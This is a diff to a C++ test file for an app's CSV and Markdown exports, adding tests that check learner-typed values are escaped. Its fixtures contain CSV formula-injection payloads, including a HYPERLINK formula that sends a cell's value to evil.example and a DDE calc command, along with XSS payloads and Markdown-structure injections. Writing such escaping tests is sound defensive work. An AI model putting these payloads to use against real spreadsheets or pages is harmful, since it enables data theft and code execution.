@@ -25,6 +25,8 @@
 #include "runtime/calendar_date.h"
 #include "runtime/course_loader.h"
 
+#include <cmark-gfm.h>
+
 using namespace gw;
 using nlohmann::json;
 namespace fs = std::filesystem;
@@ -318,7 +320,7 @@ TEST_CASE("what the goldens promise, spelled out") {
     CHECK(csv.find("\"Calls us \"\"the quiet one\"\" that just works\"") != std::string::npos);
     CHECK(csv.find("\"Month-end close\nruns late\"") != std::string::npos);
     CHECK(csv.find("\"Rotterdam, NL\"") != std::string::npos);
-    CHECK(csv.rfind("Name,Role,Location or team,Influence,Relationship,", 0) == 0);
+    CHECK(csv.rfind("\xEF\xBB\xBFName,Role,Location or team,Influence,Relationship,", 0) == 0);  // BOM first
     Field money;
     money.id = "amount";
     money.label = "Amount";
@@ -326,8 +328,8 @@ TEST_CASE("what the goldens promise, spelled out") {
     Field table;
     table.kind = FieldKind::Table;
     table.columns = {money};
-    CHECK(table_csv(table, json::array({{{"amount", 1480000.5}}, {{"amount", 2000}}}), p) == "Amount\r\n1480000.50\r\n2000\r\n");
-    CHECK(table_csv(table, json::array(), p) == "Amount\r\n");
+    CHECK(table_csv(table, json::array({{{"amount", 1480000.5}}, {{"amount", 2000}}}), p) == "\xEF\xBB\xBF" "Amount\r\n1480000.50\r\n2000\r\n");
+    CHECK(table_csv(table, json::array(), p) == "\xEF\xBB\xBF" "Amount\r\n");
 }
 
 TEST_CASE("file names: slugs of account name, kind and id") {
@@ -458,13 +460,211 @@ TEST_CASE("values that no longer fit their declaration are still shown, never th
     CHECK(md.rfind("# QBR design \xE2\x80\x94 acct-7 (account no longer in your list)\n\n**Status:**", 0) == 0);
     CHECK(md.find("## Meeting date\n\n20261112\n") != std::string::npos);
     CHECK(md.find("## Agenda\n\nwas a paragraph once\n") != std::string::npos);
-    CHECK(md.find("## Preparation\n\n[\"results\"]\n") != std::string::npos);
+    CHECK(md.find("## Preparation\n\n\\[\"results\"\\]\n") != std::string::npos);  // shown as text, never a link
     CHECK(md.find("## Commitment: what we will do\n\n\xE2\x80\x94\n") != std::string::npos);
     CHECK(md.find("| 1 |\n| stray |") != std::string::npos);
     CHECK(artifact_markdown_name(a, p) == "acct-7-qbr-design-art-1.md");
 
     Field table = *course.find_artifact_kind("qbr-design")->field("phases");
-    CHECK(table_csv(table, json("not rows"), p) == "Phase,Minutes,Questions to ask\r\n");
+    CHECK(table_csv(table, json("not rows"), p) == "\xEF\xBB\xBF" "Phase,Minutes,Questions to ask\r\n");
     CHECK(table_csv(table, json::array({{{"phase", "Extra"}, {"minutes", 7.5}, {"room", "B2"}, {"gone", nullptr}}}), p) ==
-          "Phase,Minutes,Questions to ask,room\r\nExtra,7.5,,B2\r\n");
+          "\xEF\xBB\xBF" "Phase,Minutes,Questions to ask,room\r\nExtra,7.5,,B2\r\n");
+}
+
+// ---- exports that are safe to open (issue 7) ------------------------------------------------------------------
+
+namespace {
+
+const std::string kBom = "\xEF\xBB\xBF";
+const std::string kHyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"details\")";
+
+Field column(const std::string& id, const std::string& label, FieldKind kind) {
+    Field f;
+    f.id = id;
+    f.label = label;
+    f.kind = kind;
+    return f;
+}
+
+// '|' that end a GFM table cell: those not escaped by an odd run of backslashes.
+int cell_pipes(const std::string& line) {
+    int n = 0;
+    for (size_t i = 0; i < line.size(); ++i) {
+        if (line[i] != '|') continue;
+        size_t slashes = 0;
+        while (slashes < i && line[i - 1 - slashes] == '\\') ++slashes;
+        if (slashes % 2 == 0) ++n;
+    }
+    return n;
+}
+
+size_t count(const std::string& text, const std::string& what) {
+    size_t n = 0;
+    for (size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + what.size())) ++n;
+    return n;
+}
+
+// CommonMark's own reading of the document, raw HTML let through, so whatever a permissive viewer would do shows.
+std::string as_html(const std::string& markdown) {
+    char* html = cmark_markdown_to_html(markdown.data(), markdown.size(), CMARK_OPT_UNSAFE);
+    std::string out = html;
+    std::free(html);
+    return out;
+}
+
+// An account map whose learner typed what an attacker would: formulas, Markdown structure and HTML.
+Profile hostile_profile() {
+    Profile p;
+    p.add_account("Evil <b>Co</b>\n# Injected heading", at("2026-09-01"));  // acct-1
+    p.add_account("@SUM(A1:A9)", at("2026-09-01"));                           // acct-2
+    Artifact& map = p.add_artifact("account-map", "Account map", "acct-1", at("2026-09-21"));  // art-1
+    map.values = {
+        {"stakeholders",
+         json::array({
+             {{"name", kHyperlink}, {"role", "-2+3"}, {"location", "@SUM(A1:A9)"}, {"influence", "decision_maker"},
+              {"quality", "strong"}, {"value_seen", "+1"}, {"challenge", "\t=1+1"}, {"outreach", "\r=1+1"}},
+             {{"name", "Renée Ångström"}, {"role", "Directrice générale"}, {"location", "Zürich"}},
+             {{"name", " =1+1"}, {"role", "a;=1+1"}, {"influence", "-x"}},
+             {{"name", "Pipe | <img src=x onerror=alert(1)> [click](javascript:alert(1))"},
+              {"role", "line one\n# two\n> three\n| four |"}, {"location", "`code` **bold** ~~gone~~ &lt;b&gt; \\"}},
+         })},
+        {"competitors",
+         "# Not a heading\n> not a quote\n- not a list\n1. not numbered\n<script>alert(1)</script>\n---\n"
+         "    indented code\n| a | b |\n![img](http://evil.example/x.png) <http://evil.example>\n===\nclosing ##"},
+        {"notes", "**bold** _em_ `code` [link](javascript:alert(1)) &amp; snake_case"},
+    };
+    p.edit_reflection("gone-module", "<script>t</script>\n# Retitled", at("2026-09-22"));
+    p.link(map.id, "gone-module");
+
+    Artifact& old = p.add_artifact("x\n# kind", "<b>Old</b>\n# title", "", at("2026-09-23"));  // art-2: kind removed
+    old.values = {
+        {"# key\n<script>", "> quoted"},
+        {"rows", json::array({{{"=cmd|' /C calc'!A0", "-2+3"}, {"amount", -1500}}})},
+        {"ticks", {{"<img src=x onerror=alert(1)>", true}, {"- [x] sneaky", false}}},
+    };
+    return p;
+}
+
+}  // namespace
+
+TEST_CASE("CSV: learner text a spreadsheet would run as a formula is written as text (OWASP: leading ')") {
+    const Course& course = shipped_course();
+    const Profile p = hostile_profile();
+    const std::string csv = table_csv(*course.find_artifact_kind("account-map")->field("stakeholders"),
+                                      p.artifact("art-1")->values["stakeholders"], p);
+    REQUIRE(csv.rfind(kBom, 0) == 0);
+    std::istringstream lines(csv.substr(kBom.size()));
+    std::string header, hyperlink, accented, spaced;
+    std::getline(lines, header);
+    std::getline(lines, hyperlink);
+    std::getline(lines, accented);
+    std::getline(lines, spaced);
+    CHECK(header == "Name,Role,Location or team,Influence,Relationship,Value they see,Challenge we could address,"
+                    "Next outreach,By\r");
+    CHECK(hyperlink ==
+          "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"details\"\")\",'-2+3,'@SUM(A1:A9),Decision maker,"
+          "Strong,'+1,\"'\t=1+1\",\"'\r=1+1\",\r");
+    CHECK(accented == "Renée Ångström,Directrice générale,Zürich,,,,,,\r");   // UTF-8 as typed, after the BOM
+    CHECK(spaced == "' =1+1,\"a;=1+1\",,'-x,,,,,\r");  // blanks before '=' and ';'-separated locales are covered too
+    check_golden("hostile-account-map-stakeholders.csv", csv);  // the whole file, for review
+
+    // An account reference renders the account's name: that name is learner text too.
+    Field accounts = column("accounts", "Accounts", FieldKind::Table);
+    accounts.columns = {column("account", "Account", FieldKind::Account)};
+    CHECK(table_csv(accounts, json::array({{{"account", "acct-2"}}}), p) == kBom + "Account\r\n'@SUM(A1:A9)\r\n");
+}
+
+TEST_CASE("CSV: numbers the app wrote stay numbers, negative ones included; text in a typed column does not") {
+    const Profile p;
+    Field table = column("rows", "Rows", FieldKind::Table);
+    table.columns = {column("name", "Name", FieldKind::Text), column("amount", "Amount", FieldKind::Money),
+                     column("minutes", "=Minutes", FieldKind::Number), column("score", "Score", FieldKind::Rating)};
+    const json rows = json::array({
+        {{"name", "-2+3"}, {"amount", -1500.5}, {"minutes", -3}, {"score", 4}},
+        {{"name", "Zoë"}, {"amount", -1500}, {"minutes", 2.5}},
+        {{"amount", "=1+1"}, {"minutes", "-5"}},  // strings in number columns: imported, or the column changed kind
+    });
+    CHECK(table_csv(table, rows, p) == kBom +
+                                           "Name,Amount,'=Minutes,Score\r\n"
+                                           "'-2+3,-1500.50,-3,4 / 5\r\n"
+                                           "Zoë,-1500,2.5,\r\n"
+                                           ",'=1+1,'-5,\r\n");
+}
+
+TEST_CASE("CSV: every file export_artifacts writes has the BOM and the escaping, tables of removed kinds too") {
+    test::TempDir dir;
+    const Profile p = hostile_profile();
+    std::ostringstream log;
+    std::string error;
+    REQUIRE(export_artifacts(p, shipped_course(), "csv", dir / "csv", log, &error) == 2);
+    for (const auto& e : fs::directory_iterator(dir / "csv")) {
+        CAPTURE(e.path().string());
+        CHECK(test::slurp(e.path()).rfind(kBom, 0) == 0);
+    }
+    const std::string old = test::slurp(dir / "csv" / "portfolio-x-kind-art-2-rows.csv");
+    CHECK(old == kBom + "'=cmd|' /C calc'!A0,amount\r\n'-2+3,-1500\r\n");
+}
+
+TEST_CASE("Markdown: hostile values render as plain text, never as structure, links or HTML") {
+    UtcZone utc;
+    const Course& course = shipped_course();
+    const Profile p = hostile_profile();
+    const Artifact& map = *p.artifact("art-1");
+    const std::string md = artifact_markdown(course.find_artifact_kind("account-map"), map, p, course);
+    INFO(md);
+    check_golden("hostile-account-map.md", md);  // the whole document, for review
+    const std::string html = as_html(md);
+    INFO(html);
+
+    // Structure: the title, three fields, the rules list and the status line, nothing more.
+    CHECK(count(html, "<h1>") == 1);
+    CHECK(count(html, "<h2>") == 3);
+    CHECK(count(html, "<ul>") == 1);
+    CHECK(count(html, "<li>") == 2);
+    CHECK(count(html, "<strong>") == 1);
+    for (const char* tag : {"<h3", "<h4", "<blockquote", "<ol", "<hr", "<pre", "<code", "<em>", "<a ", "<img", "<script",
+                            "<b>", "<del"})
+        CHECK_MESSAGE(html.find(tag) == std::string::npos, tag);
+    // ...and the text is all there, as typed.
+    CHECK(html.find("<h1>Account map \xE2\x80\x94 Evil &lt;b&gt;Co&lt;/b&gt; # Injected heading</h1>") != std::string::npos);
+    CHECK(html.find("&lt;script&gt;t&lt;/script&gt; # Retitled (no longer in the course)") != std::string::npos);
+    CHECK(html.find("# Not a heading<br />\n&gt; not a quote<br />\n- not a list<br />\n1. not numbered<br />\n"
+                    "&lt;script&gt;alert(1)&lt;/script&gt;<br />\n---<br />\nindented code<br />\n| a | b |<br />\n"
+                    "![img](http://evil.example/x.png) &lt;http://evil.example&gt;<br />\n===<br />\nclosing ##") !=
+          std::string::npos);
+    CHECK(html.find("**bold** _em_ `code` [link](javascript:alert(1)) &amp;amp; snake_case") != std::string::npos);
+
+    // Table rows keep their nine cells whatever a cell holds.
+    std::istringstream lines(md);
+    int rows = 0;
+    for (std::string line; std::getline(lines, line);)
+        if (line.rfind("| ", 0) == 0) {
+            CAPTURE(line);
+            CHECK(cell_pipes(line) == 10);
+            ++rows;
+        }
+    CHECK(rows == 6);  // header, delimiter, four stakeholders
+    CHECK(md.find("| Pipe \\| \\<img src=x onerror=alert(1)> \\[click\\](javascript:alert(1)) | line one<br># two<br>"
+                  "> three<br>\\| four \\| | \\`code\\` \\*\\*bold\\*\\* \\~\\~gone\\~\\~ \\&lt;b\\&gt; \\\\ |") !=
+          std::string::npos);
+}
+
+TEST_CASE("Markdown: a kind the course dropped still renders its hostile keys and values as plain text") {
+    UtcZone utc;
+    const Course& course = shipped_course();
+    const Profile p = hostile_profile();
+    const std::string md = artifact_markdown(nullptr, *p.artifact("art-2"), p, course);
+    INFO(md);
+    const std::string html = as_html(md);
+    INFO(html);
+    CHECK(count(html, "<h1>") == 1);
+    CHECK(count(html, "<h2>") == 3);
+    CHECK(count(html, "<ul>") == 1);  // the ticks, as a task list
+    CHECK(count(html, "<li>") == 2);
+    for (const char* tag : {"<blockquote", "<img", "<script", "<b>", "<ol", "<h3"}) CHECK_MESSAGE(html.find(tag) == std::string::npos, tag);
+    CHECK(html.find("<h1>&lt;b&gt;Old&lt;/b&gt; # title \xE2\x80\x94 Portfolio</h1>") != std::string::npos);
+    CHECK(html.find("(&quot;x # kind&quot;)") != std::string::npos);
+    CHECK(html.find("<h2># key &lt;script&gt;</h2>\n<p>&gt; quoted</p>") != std::string::npos);
+    CHECK(html.find("<li>[x] &lt;img src=x onerror=alert(1)&gt;</li>") != std::string::npos);
+    CHECK(html.find("<li>[ ] - [x] sneaky</li>") != std::string::npos);
 }
